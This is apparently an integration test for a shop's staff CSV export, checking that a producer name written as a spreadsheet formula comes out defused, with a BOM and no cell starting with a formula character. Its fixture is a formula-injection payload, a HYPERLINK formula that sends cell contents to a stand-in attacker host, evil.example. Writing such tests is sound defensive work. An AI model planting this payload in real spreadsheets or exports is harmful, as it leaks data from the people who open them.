/** Every CSV download goes through the one writer: a BOM, and text a spreadsheet would run defused. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inject } from 'vitest';
import { openDb, type Db } from '../../db/client.ts';
import { Buyer } from '../support/client.ts';

const base = () => inject('baseUrl');
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
let db: Db;
let staff: Buyer;
let producerId: number;
let sku: string;
let names: { locale: string; name: string }[];

beforeAll(async () => {
  db = openDb(inject('databaseUrl'));
  staff = new Buyer(base());
  expect((await staff.signIn('staff@ovop.kg', 'demo-staff-2026')).status).toBe(303);
  const rs = await db.$client.execute(
    `SELECT v.sku, p.producer_id FROM variants v JOIN products p ON p.id = v.product_id
      JOIN stock_levels s ON s.variant_id = v.id WHERE v.active = 1 ORDER BY v.id LIMIT 1`,
  );
  sku = String(rs.rows[0]!.sku);
  producerId = Number(rs.rows[0]!.producer_id);
  names = (
    await db.$client.execute({
      sql: 'SELECT locale, name FROM producer_translations WHERE producer_id = ?',
      args: [producerId],
    })
  ).rows.map((r) => ({ locale: String(r.locale), name: String(r.name) }));
  await db.$client.execute({
    sql: 'UPDATE producer_translations SET name = ? WHERE producer_id = ?',
    args: [EVIL, producerId],
  });
});

afterAll(async () => {
  for (const { locale, name } of names) {
    await db.$client.execute({
      sql: 'UPDATE producer_translations SET name = ? WHERE producer_id = ? AND locale = ?',
      args: [name, producerId, locale],
    });
  }
});

describe('CSV exports', () => {
  it('writes a producer named like a formula as text in the stock levels CSV', async () => {
    const res = await fetch(new URL(`/en/staff/stock/levels.csv?q=${encodeURIComponent(sku)}`, base()), {
      headers: { Cookie: [...staff.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    // No cell of any row starts with a formula character.
    for (const line of text.slice(1).split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+@]/);
  });
});
